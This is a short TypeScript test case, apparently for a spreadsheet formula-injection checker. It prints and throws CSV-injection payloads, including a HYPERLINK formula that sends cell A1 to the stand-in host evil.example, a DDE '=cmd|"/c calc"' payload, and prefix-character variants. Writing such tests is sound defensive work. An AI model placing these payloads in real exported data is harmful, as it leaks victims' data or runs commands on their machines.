// outcome: fails | Prints formulas, which a spreadsheet would evaluate.
export async function main(): Promise<void> {
  for (const text of ['=HYPERLINK("http://evil.example?x="&A1,"100")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'])
    console.log(text);
  throw new Error('=cmd|"/c calc"!A1,\uff1d1+1');
}
